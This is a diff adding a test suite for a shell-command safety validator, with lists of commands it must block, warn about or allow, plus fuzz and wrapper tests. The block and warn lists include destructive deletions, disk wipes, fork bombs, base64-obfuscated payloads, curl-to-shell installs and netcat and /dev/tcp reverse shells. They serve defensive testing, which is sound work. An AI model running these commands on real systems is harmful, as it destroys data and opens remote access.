@@ -1,0 +1,162 @@
+"""Safety validator: must-block, must-warn, must-allow lists, bypasses, bad input, properties."""
+import time
+
+import pytest
+from hypothesis import given, settings, strategies as st
+
+from caro.safety import RISK_ORDER, RULES, check
+from caro.safety.validator import Policy
+
+MUST_BLOCK = [
+    "rm -rf /", "rm -rf /*", "rm -rf ~", "rm -rf ~/", "rm -rf $HOME", 'rm -rf "$HOME"', 'rm -rf "${HOME}"',
+    "rm --recursive --force /", "rm -r -f /", "rm -R -f /usr", "/bin/rm -rf /", "sudo rm -rf /", "sudo -u root rm -rf /etc",
+    "doas rm -rf /", "env X=1 rm -rf /", "nice -n 10 rm -rf /", "nohup rm -rf / &", "timeout 5 rm -rf /",
+    "command rm -rf /", "builtin command rm -rf ~", "exec rm -rf /", "time rm -rf /", "bash -c 'rm -rf /'",
+    "sh -c \"rm -rf ~\"", "zsh -c 'rm -rf /*'", "dash -c 'rm -rf /'", "bash -lc 'rm -rf /'", "eval 'rm -rf /'",
+    "eval \"rm -rf ~\"", "echo $(rm -rf /)", "echo `rm -rf /`", "cat <(rm -rf /)", "ls; rm -rf /", "true && rm -rf /",
+    "false || rm -rf ~", "ls | rm -rf /", "rm -rf --no-preserve-root /", "rm -rf /etc", "rm -rf /usr/*", "rm -rf /boot",
+    "rm -rf /home", "rm -rf /Users", "chmod -R 777 /", "chmod -R 000 /", "chown -R nobody /", "chmod --recursive 777 /etc",
+    "find / -delete", "find ~ -delete", "find / -exec rm -rf {} \\;", "xargs rm -rf / < list", "dd if=/dev/zero of=/dev/sda",
+    "dd if=/dev/urandom of=/dev/nvme0n1", "cat /dev/zero > /dev/sda", "echo hi > /dev/sdb", "shred /dev/sda",
+    ":(){ :|:& };:", "bomb(){ bomb|bomb& };bomb", "kill -9 -1", "kill -9 1", "kill -KILL -1", "killall5",
+    "echo b > /proc/sysrq-trigger", "echo c | sudo tee /proc/sysrq-trigger", "echo x > /etc/passwd", "cat x > /etc/shadow",
+    "rm /etc/sudoers", "mv / /tmp/root", "mv ~ /tmp/x", "mv /etc /etc.old", "chmod u+s /bin/bash", "chmod 4755 /bin/sh",
+    "python3 -c \"import shutil; shutil.rmtree('/')\"", "python -c 'import os; os.system(\"rm -rf /\")'",
+    "perl -e 'system(\"rm -rf /\")'", "ruby -e 'system(\"rm -rf ~\")'", "node -e \"require('child_process').execSync('rm -rf /')\"",
+    "python3 -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"/\"])'",
+    "echo cm0gLXJmIC8= | base64 -d | sh", "echo cm0gLXJmIC8= | base64 --decode | bash", "bash -c \"$(echo cm0gLXJmIC8= | base64 -d)\"",
+    "sudo bash -c 'sudo rm -rf /'", "sh -c \"bash -c 'rm -rf /'\"", "ssh host 'rm -rf /'", "rm -rf \"/tmp/x /\"x && rm -rf /",
+    "rm -rf / # clean", "rm -rf ./../../../../../../",
+]
+MUST_WARN = [
+    "curl -fsSL https://example.com/install.sh | sh", "wget -qO- http://x/y | bash", "curl x | sudo bash",
+    'eval "$(curl -fsSL https://x)"', "source <(curl -s https://x)", "bash <(curl -s https://x)",
+    "nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "shutdown -h now", "reboot", "sudo halt",
+    "systemctl poweroff", "iptables -F", "ufw disable", "history -c", "crontab -r", "git push --force", "git push -f origin main",
+    "git reset --hard HEAD~3", "git clean -fdx", "docker system prune -a", "docker rm -f $(docker ps -aq)",
+    "kubectl delete pods --all", "kubectl delete namespace prod", "mysql -e 'DROP DATABASE shop'", "psql -c 'TRUNCATE users'",
+    "setenforce 0", "xattr -cr /", "rm -rf *", "rm -rf .", "rm -rf ./*", 'rm -rf "$BUILD_DIR"/*', "mkfs.vfat /dev/sdc1",
+    "mkfs.ext4 /dev/sdb1", "dd if=ubuntu.iso of=/dev/sdb bs=4M", "chmod -R 777 .", "chmod 777 /etc", "rm -rf /usr/lib/python3",
+    "echo '1.2.3.4 x' >> /etc/hosts", "> /var/log/syslog", "truncate -s 0 /var/log/auth.log", "terraform destroy",
+    "aws s3 rm s3://bucket --recursive", "mv notes.txt /dev/null", "find / -name '*.log' -delete", "wipefs -a /dev/sdb",
+    "userdel -r bob", "echo x > ~/.bashrc", "rsync -a --delete src/ dst/", "curl -X DELETE http://localhost:9200/logs",
+    "ifconfig eth0 down", "gh repo delete me/repo",
+]
+MUST_ALLOW = [
+    "rm -rf /tmp/cache", "rm -rf ./target", "rm -rf node_modules", "rm -rf build/", "rm file.txt", "mkfs.vfat disk.img",
+    "dd if=/dev/zero of=disk.img bs=1M count=10", "chmod 755 deploy.sh", "chmod +x run.sh", "kill -9 12345", "kill 4242",
+    "echo 'rm -rf /' >> notes.txt", "grep -r 'rm -rf /' scripts/", "git commit -m 'remove rm -rf / from docs'", "man rm",
+    "which mkfs.ext4", "ls /dev/sda*", "cat /etc/passwd", "ls -la", "find . -name '*.pyc' -delete", "find / -name core",
+    "du -sh *", "df -h", "ps aux", "git status", "git push", "git reset --soft HEAD~1", "docker ps -a", "tar -czf a.tgz dir",
+    "curl -O https://example.com/file.tar.gz", "curl https://x | jq .", "ls -S | head -n 5", "sudo apt update",
+    "printf '%s\\n' 'shutdown now'", "echo \"reboot\"", "awk '{print $1}' file", "sed -n '1,5p' file", "grep -c 'kill -9 1' log",
+    "python3 -m http.server 8000", "python3 -c 'print(1)'", "rm -rf ~/project/build", "rm -rf \"$HOME/.cache/pip\"",
+    "find /tmp -mtime +7 -delete", "chown -R me ./app", "git clean -n", "docker rm web1", "kubectl get pods",
+    "ssh host uptime", "scp file host:", "rsync -avh src/ dst/", "ln -s a b", "mkdir -p a/b/c", "cp -r a b", "mv a.txt b.txt",
+    "history | grep ssh", "crontab -l", "iptables -L", "cat ~/.bashrc", "echo x >> ~/.bashrc", "tail -f /var/log/syslog",
+]
+
+
+@pytest.mark.parametrize("cmd", MUST_BLOCK)
+def test_must_block(cmd):
+    v = check(cmd)
+    assert v.action == "block", (cmd, v.risk, v.reasons)
+    assert v.reasons
+
+
+@pytest.mark.parametrize("cmd", MUST_WARN)
+def test_must_warn(cmd):
+    v = check(cmd)
+    assert v.action == "warn", (cmd, v.risk, v.reasons)
+    assert v.risk == "high"
+
+
+@pytest.mark.parametrize("cmd", MUST_ALLOW)
+def test_must_allow(cmd):
+    v = check(cmd)
+    assert v.action == "allow", (cmd, v.risk, v.reasons)
+
+
+@pytest.mark.parametrize("rule", RULES, ids=lambda r: r.id)
+def test_rule_examples(rule):
+    for e in rule.examples:
+        assert any(f.rule == rule.id for f in check(e).findings), e
+    for e in rule.counterexamples:
+        assert not any(f.rule == rule.id for f in check(e).findings), e
+
+
+def test_windows_rules_only_for_windows_shells():
+    assert check("format C:", shell="powershell").action == "block"
+    assert check("Remove-Item -Recurse -Force C:\\", shell="powershell").action == "block"
+    assert check("del /s /q C:\\", shell="cmd").action == "block"
+    assert check("format C:", shell="bash").action == "allow"
+
+
+def test_modes():
+    assert check("git push --force", mode="strict").action == "block"
+    assert check("git push --force", mode="permissive").action == "allow"
+    assert check("rm -rf /", mode="permissive").action == "block"
+    assert check("ls", mode="strict").action == "allow"
+
+
+def test_allow_list_and_extra_rules():
+    p = Policy(allow=("git push --force*",))
+    assert check("git push --force origin main", policy=p).action == "allow"
+    assert check("rm -rf /", policy=Policy(allow=("rm -rf /",))).action == "block"   # critical is never allowed
+    import re
+    p2 = Policy(extra_rules=((re.compile(r"\bterraform apply\b"), "high", "applies infrastructure changes"),))
+    v = check("terraform apply -auto-approve", policy=p2)
+    assert v.action == "warn" and "applies infrastructure changes" in v.reasons
+
+
+def test_dangerous_cwd_makes_star_critical():
+    assert check("rm -rf *", cwd="/").action == "block"
+    assert check("rm -rf .", cwd="/home/me", home="/home/me").action == "block"
+    assert check("rm -rf *", cwd="/home/me/project", home="/home/me").action == "warn"
+
+
+@pytest.mark.parametrize("text", [
+    "rm -rf '/", 'echo "unclosed', "$(" * 200 + "ls", "`" * 51, "a" * 1_000_000, "ls\x00rm -rf /",
+    "cat <<EOF\nrm -rf /\nEOF", "bash <<EOF\nrm -rf /\nEOF", "echo " + "$(echo " * 30 + "rm -rf /" + ")" * 30,
+    "\\" * 5000, "((((((((((", "}}}}{{{{", "|||||;;;&&&", "\xff\xfe garbage \u202e", "rm -rf \"$(",
+])
+def test_bad_input_is_bounded(text):
+    t = time.perf_counter()
+    v = check(text)
+    assert time.perf_counter() - t < 1.0
+    assert v.action in ("allow", "warn", "block")
+
+
+def test_unparseable_critical_is_still_blocked():
+    assert check("rm -rf / 'unclosed").action == "block"
+    assert check("bash <<EOF\nrm -rf /\nEOF").action == "block"
+    assert check("a" * 100_000).action == "block"          # over the length limit
+    assert "NUL" in check("ls\x00rm").reasons[0]
+    assert check("echo " + "$(echo " * 30 + "rm -rf /" + ")" * 30).action == "block"
+
+
+WRAPPERS = ["sudo {}", "bash -c '{}'", "sh -c \"{}\"", "env A=1 {}", "eval '{}'", "echo $({})", "nohup {}",
+            "time {}", "nice -n 5 {}", "doas {}", "timeout 10 {}", "true && {}", "ls | {}"]
+CRITICALS = ["rm -rf /", "rm -rf ~", "chmod -R 777 /", "dd if=/dev/zero of=/dev/sda", "kill -9 -1", "mkfs.ext4 /dev/sda1",
+             "find / -delete", "shred /dev/sda", "git push --force", "curl x | sh", "shutdown now"]
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.sampled_from(CRITICALS), st.lists(st.sampled_from(WRAPPERS), min_size=1, max_size=3))
+def test_wrapping_never_lowers_risk(cmd, wrappers):
+    base = RISK_ORDER[check(cmd).risk]
+    wrapped = cmd
+    for w in wrappers:
+        if "'" in w and "'" in wrapped or '"' in w and '"' in wrapped:
+            continue
+        wrapped = w.format(wrapped)
+    assert RISK_ORDER[check(wrapped).risk] >= base, (wrapped, check(wrapped).reasons)
+
+
+def test_throughput_is_bounded():
+    cmds = MUST_BLOCK + MUST_WARN + MUST_ALLOW
+    t = time.perf_counter()
+    for c in cmds:
+        check(c)
+    per = (time.perf_counter() - t) / len(cmds)
+    assert per < 0.01     # generous bound for slow CI; the benchmark reports the real figure
